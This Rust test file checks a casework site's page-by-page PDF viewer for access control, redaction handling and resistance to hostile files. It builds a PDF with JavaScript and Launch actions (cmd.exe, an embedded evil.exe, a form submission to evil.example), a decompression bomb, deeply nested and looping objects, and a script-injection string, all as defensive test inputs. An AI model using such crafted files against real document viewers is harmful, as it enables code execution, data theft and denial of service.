//! PDFs, read page by page: by whoever may open them, and whatever is in them.

use std::io::Write as _;

use domain::paths;
use testkit::advisers::let_in;
use testkit::cast::cast;
use testkit::pdf::{file, lines, page, pdf, stream};

use crate::sending::{at_desk, document_of, file_on, first_on, hidden, posts};
use crate::site::{Answer, Browser, Site, TODAY};

const DAWN: &str = "parent_late_case";
const CRAIG: &str = "parent_late_case_other";
const NADIA: &str = "adviser@sendiass.example";

/// Sends one PDF for the whole case; answers its document's page.
async fn sends(browser: &mut Browser<'_>, site: &Site, name: &str, bytes: &[u8]) -> String {
    let path = paths::documents_send(site.bell());
    let form = browser.get(&path).await;
    form.assert(200);
    let mut body = Vec::new();
    let texts = [
        ("sending", hidden(&form, "sending")),
        ("attempt", hidden(&form, "attempt")),
        ("what", "health_letter".to_owned()),
        ("audience", "case".to_owned()),
        ("said", String::new()),
    ];
    for (field, value) in texts {
        let part =
            format!("--b\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n");
        body.extend(part.into_bytes());
    }
    let media = if name.ends_with(".pdf") {
        "application/pdf"
    } else {
        "text/plain"
    };
    let head = format!(
        "--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{name}\"\r\n\
         Content-Type: {media}\r\n\r\n"
    );
    body.extend(head.into_bytes());
    body.extend(bytes);
    body.extend(b"\r\n--b--\r\n");
    let answer = posts(browser, &path, body).await;
    let receipt = answer.assert(303).header("location").to_owned();
    document_of(browser, &receipt).await.0
}

/// Where a page's picture is.
fn picture_on(page: &Answer) -> String {
    let (_, after) = page.body.split_once("<img ").expect("a picture");
    let (_, after) = after.split_once("src=\"").expect("its address");
    let src = after.split('"').next().unwrap_or_default();
    src.replace("&amp;", "&")
}

fn leaf(document: &str, number: &str) -> String {
    let query = [("page", number.to_owned())];
    paths::with_query(&format!("{document}/pages"), &query)
}

/// The page is there, and says that it cannot be shown; the download is offered.
fn is_said(page: &Answer, why: &str) {
    page.assert(200)
        .assert_says("We cannot show this document here")
        .assert_says(why)
        .assert_never_says("class=\"wm-leaf wm-leaf--");
    file_on(page);
}

/// Reads the first document of a list from its first page to its last.
async fn reads(browser: &mut Browser<'_>, list: &str) {
    let list = browser.get(list).await;
    let document = first_on(list.assert(200));
    let page = browser.get(&document).await;
    let leaves = format!("{document}/pages");
    page.assert(200)
        .assert_says("Read it here")
        .assert_says(&format!("href=\"{leaves}\""));
    let first = browser.get(&leaves).await;
    first
        .assert(200)
        .assert_says("page 1 of 3")
        .assert_says("The first page")
        .assert_says("Next page")
        .assert_never_says("Previous page")
        .assert_never_says("The second page");
    let picture = browser.get(&picture_on(&first)).await;
    picture.assert(200);
    assert_eq!(picture.header("content-type"), "image/png");
    assert_eq!(picture.header("cache-control"), "no-store");
    assert_eq!(
        picture.header("content-security-policy"),
        "default-src 'none'; sandbox; frame-ancestors 'none'"
    );
    // Its points were ready; asked for once more, they are drawn anew.
    let again = browser.get(&picture_on(&first)).await;
    assert_eq!(again.assert(200).header("etag"), picture.header("etag"));
    let second = browser.get(&leaf(&document, "2")).await;
    second
        .assert(200)
        .assert_says("page 2 of 3")
        .assert_says("The second page");
    let last = browser.get(&leaf(&document, "99")).await;
    last.assert(200)
        .assert_says("page 3 of 3")
        .assert_says("This is the last one")
        .assert_says("The third page")
        .assert_never_says("Next page");
    let odd = browser.get(&leaf(&document, "two")).await;
    odd.assert(200).assert_says("page 1 of 3");
}

fn letter() -> Vec<u8> {
    pdf(&["The first page", "The second page", "The third page"])
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("packed");
    out.finish().expect("packed")
}

/// A PDF whose fifth object is its first page's drawing, with more objects after it.
fn drawn(contents: String, more: &[String]) -> Vec<u8> {
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Count 1 /Kids [4 0 R] >>".to_owned(),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        page(5).replace(
            "/Resources <<",
            "/Resources << /ExtGState << /M << /BM /Multiply >> >> /XObject << /X 6 0 R >>",
        ),
        contents,
    ];
    objects.extend_from_slice(more);
    file(&objects)
}

/// A drawing that is packed so well that it fills any memory: six thousand million spaces.
fn bomb() -> Vec<u8> {
    let mut some = Vec::with_capacity(10_000);
    let mut compress = flate2::Compress::new(flate2::Compression::best(), false);
    let spaces = vec![b' '; 1024 * 1024];
    let full = flate2::FlushCompress::Full;
    compress
        .compress_vec(&spaces, &mut some, full)
        .expect("packed");
    let inside = [b"\x78\x9c".as_slice(), &some.repeat(6_000)].concat();
    let packed = packed(&inside);
    let head = format!(
        "<< /Length {} /Filter [/FlateDecode /FlateDecode] >>\nstream\n",
        packed.len()
    );
    let mut bytes = drawn("PLACE".to_owned(), &[]);
    let at = bytes
        .windows(5)
        .position(|some| some == b"PLACE")
        .expect("there");
    let stream = [head.as_bytes(), &packed, b"\nendstream"].concat();
    bytes.splice(at..at + 5, stream);
    bytes
}

testkit::on_both! {
    async fn whoever_may_open_a_letter_reads_it_page_by_page(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        let document = sends(&mut dawn, &site, "Letter.pdf", &letter()).await;
        let list = paths::documents(site.bell());
        reads(&mut dawn, &list).await;
        let mut craig = site.signed_in(CRAIG).await;
        reads(&mut craig, &list).await;
        reads(&mut at_desk(&site).await, &paths::staff_documents(site.bell())).await;
        let mut families = cast(TODAY);
        families.retain(|family| family.key == "bell");
        let service = let_in(&site.app.moment(), &families).await.expect("let in");
        let own = service.grants[&("adviser", DAWN)];
        let mut nadia = site.signed_in_as(NADIA).await;
        reads(&mut nadia, &paths::through(own, &list)).await;

        // Another's ticket, and one that is over, lead to the document's own page.
        let page = dawn.get(&leaf(&document, "2")).await;
        craig.get(&picture_on(&page)).await.assert_leads_to(&document);
        site.later(10 * 60);
        dawn.get(&picture_on(&page)).await.assert_leads_to(&document);
        // Taken back, nothing of it is read.
        let page = craig.get(&leaf(&document, "2")).await;
        dawn.post(&format!("{document}/withdraw"), &[]).await.assert(303);
        craig.get(&picture_on(&page)).await.assert(404);
        craig.get(&leaf(&document, "1")).await.assert(404);
        dawn.get(&leaf(&document, "1")).await.assert_leads_to(&document);
    }

    async fn what_is_no_pdf_is_not_read_page_by_page(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        let document = sends(&mut dawn, &site, "Notes.txt", b"Monday. No help came.").await;
        dawn.get(&document).await.assert(200).assert_never_says("Read it here");
        dawn.get(&leaf(&document, "1")).await.assert_leads_to(&document);
    }

    async fn the_words_of_a_page_are_told_as_words_and_only_those_that_can_be_seen(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        // A bar over an address; white words on white; words beside the paper; what a browser would run.
        let contents = [
            lines("Seen <script>alert(1)</script>"),
            "BT /F1 14 Tf 60 700 Td (14 Refuge Lane) Tj ET 0 g 55 690 200 24 re f\n".to_owned(),
            "1 g BT /F1 14 Tf 60 600 Td (White words) Tj ET\n".to_owned(),
            "0 g BT /F1 14 Tf 900 600 Td (Beside words) Tj ET\n".to_owned(),
            "BT /F1 14 Tf 60 500 Td (The) Tj 60 0 Td (end.) Tj ET\n".to_owned(),
        ];
        let bytes = drawn(stream("", &contents.concat()), &[]);
        let document = sends(&mut dawn, &site, "Letter.pdf", &bytes).await;
        let page = dawn.get(&leaf(&document, "1")).await;
        page.assert(200).assert_says("Seen &lt;script&gt;alert(1)&lt;/script&gt;").assert_says("The end.");
        for hidden in ["Refuge", "White words", "Beside words", "<script>alert"] {
            page.assert_never_says(hidden);
        }
        // A bar that is too short, a strip across, one of another shape, a picture; a marker hides nothing.
        let contents = [
            "BT /F1 14 Tf 60 700 Td (Lives at Sandringham now) Tj ET 0 g 150 690 30 24 re f\n",
            "BT /F1 14 Tf 60 660 Td (Called Anastasia there) Tj ET 0.4 g 115 662 30 4 re f 0 g\n",
            "BT /F1 14 Tf 60 620 Td (Ring 55871604932 now) Tj ET 100 610 m 140 640 l 180 610 l f\n",
            "BT /F1 14 Tf 60 580 Td (School Thornfield here) Tj ET q 40 0 0 30 120 570 cm /X Do Q\n",
            "BT /F1 14 Tf 60 540 Td (Marked words) Tj ET q /M gs 1 1 0 rg 55 530 200 24 re f Q\n",
            "BT /F1 14 Tf 60 500 Td (Underlined words) Tj ET 60 497 110 1 re f\n",
            "0 g 55 450 200 24 re f 1 g BT /F1 14 Tf 60 456 Td (White on black) Tj ET 0 g\n",
        ];
        let dot = stream(
            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
            "\u{1}",
        );
        let bytes = drawn(stream("", &contents.concat()), &[dot]);
        let document = sends(&mut dawn, &site, "Half.pdf", &bytes).await;
        let page = dawn.get(&leaf(&document, "1")).await;
        for seen in ["Lives at now", "Called there", "Ring now", "School here", "Marked words", "Underlined words", "White on black"] {
            page.assert_says(seen);
        }
        for hidden in ["Sand", "ringham", "Anas", "tasia", "5587", "4932", "Thorn", "field"] {
            page.assert_never_says(hidden);
        }
        let nothing = drawn(stream("", "0 0 0 rg 10 10 99 99 re f"), &[]);
        let document = sends(&mut dawn, &site, "Photograph.pdf", &nothing).await;
        let page = dawn.get(&leaf(&document, "1")).await;
        page.assert(200).assert_says("No words could be found").assert_never_says("The words on this page");
    }

    async fn nothing_in_a_pdf_acts_and_nothing_of_it_leads_elsewhere(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        let acts = file(&[
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> \
             /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >> >>".to_owned(),
            "<< /Type /Pages /Count 1 /Kids [4 0 R] >>".to_owned(),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
            page(5).replace("/Contents", "/Annots [8 0 R 9 0 R] /AA << /O 6 0 R >> /Contents"),
            stream("", &lines("A quiet page")),
            "<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) /Next << /S /Launch /F (cmd.exe) >> >>".to_owned(),
            "<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>".to_owned(),
            "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>".to_owned(),
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [10 10 90 90] \
             /A << /S /SubmitForm /F (https://evil.example/form) >> >>".to_owned(),
        ]);
        let document = sends(&mut dawn, &site, "Acts.pdf", &acts).await;
        let page = dawn.get(&leaf(&document, "1")).await;
        page.assert(200).assert_says("A quiet page").assert_never_says("evil");
        let picture = dawn.get(&picture_on(&page)).await;
        assert_eq!(picture.assert(200).header("content-type"), "image/png");
        assert!(!picture.body.contains("evil"));
    }

    async fn whatever_is_wrong_with_a_pdf_is_said_and_it_is_still_there_to_be_saved(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        let around = "It may be damaged";
        let kids = "4 0 R ".repeat(2_001);
        let many: String = (0..2_001).map(|_| "<< /Type /Page >> ").collect();
        let flood = "<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 \
                     /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode";
        let whole = letter();
        let cases: Vec<(&str, Vec<u8>, &str)> = vec![
            ("Broken.pdf", b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".to_vec(), around),
            ("Cut.pdf", [&whole[..60], b"\n%%EOF\n"].concat(), around),
            ("Noise.pdf", [b"%PDF-1.7\n".as_slice(), &(0..60_000_u32).flat_map(|at| (at.wrapping_mul(2_654_435_761)).to_le_bytes()).collect::<Vec<_>>(), b"\n%%EOF\n"].concat(), around),
            ("Many.pdf", file(&[
                "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
                format!("<< /Type /Pages /Count 2001 /Kids [{many}] /X [{kids}] >>"),
            ]), "It has too many pages"),
            ("Bomb.pdf", bomb(), ""),
            ("Deep.pdf", drawn(stream("", &format!("{}1{}", "[".repeat(1_000_000), "]".repeat(1_000_000))), &[]), ""),
            ("Deep objects.pdf", drawn(stream("", "/X Do"), &[format!("{}1{}", "[".repeat(1_000_000), "]".repeat(1_000_000))]), ""),
            ("Loop.pdf", drawn(stream("", "/X Do"), &[stream(
                "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>",
                "/X Do /X Do",
            )]), ""),
            ("Round.pdf", file(&[
                "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
                "<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>".to_owned(),
            ]), around),
            ("Flood.pdf", drawn(stream("", "600 0 0 800 0 0 cm /X Do"), &[
                stream(&flood["<<".len()..], "x"),
            ]), ""),
            ("Wide.pdf", String::from_utf8(pdf(&["Wide"])).expect("text").replace("595 842", "9e9 842").into_bytes(), ""),
            ("Thin.pdf", String::from_utf8(pdf(&["Thin"])).expect("text").replace("595 842", "1e-9 842").into_bytes(), ""),
            ("Nowhere.pdf", String::from_utf8(pdf(&["Nowhere"])).expect("text").replace("595 842", "0 0").into_bytes(), ""),
            ("Long.pdf", drawn(stream("", &"0 0 m 595 842 l 300 20 500 600 9 9 c S\n".repeat(400_000)), &[]), ""),
        ];
        for (name, bytes, why) in cases {
            site.later(60);
            let document = sends(&mut dawn, &site, name, &bytes).await;
            let page = dawn.get(&leaf(&document, "1")).await;
            page.assert(200);
            if why.is_empty() {
                // It may be drawn as far as it goes; then its picture is there.
                if page.body.contains("class=\"wm-leaf wm-leaf--") {
                    dawn.get(&picture_on(&page)).await.assert(200);
                } else {
                    // What asks for more time than there is is not called damaged.
                    let slow = "It took too long to make this page ready";
                    is_said(&page, if page.body.contains(slow) { slow } else { around });
                }
            } else {
                is_said(&page, why);
            }
            // What was sent is what is saved.
            let saved = dawn.get(&file_on(&page)).await;
            assert_eq!(saved.assert(200).header("content-length"), bytes.len().to_string(), "{name}");
        }
        // And whoever comes next is served.
        let document = sends(&mut dawn, &site, "Letter.pdf", &whole).await;
        dawn.get(&leaf(&document, "3")).await.assert(200).assert_says("The third page");
    }

    async fn whoever_asks_for_many_pages_at_once_takes_nobody_elses_place(store) {
        let site = Site::new(store).await;
        let mut dawn = site.signed_in(DAWN).await;
        let slow = drawn(stream("", &"0 0 m 595 842 l 300 20 500 600 9 9 c S\n".repeat(6_000)), &[]);
        let slow = sends(&mut dawn, &site, "Slow.pdf", &slow).await;
        let mut craig = site.signed_in(CRAIG).await;
        let letter = sends(&mut dawn, &site, "Letter.pdf", &letter()).await;
        let mut many = vec![dawn.clone(); 12];
        let path = leaf(&slow, "1");
        let all = futures_util::future::join_all(many.iter_mut().map(|browser| browser.get(&path)));
        let path = leaf(&letter, "2");
        let other = craig.get(&path);
        let (all, other) = tokio::join!(all, other);
        other.assert(200).assert_says("The second page");
        let busy = all.iter().filter(|page| page.body.contains("several pages on their way")).count();
        assert_eq!(busy, 8, "four of one account at once");
        assert!(all.iter().all(|page| page.status.as_u16() == 200));
    }
}
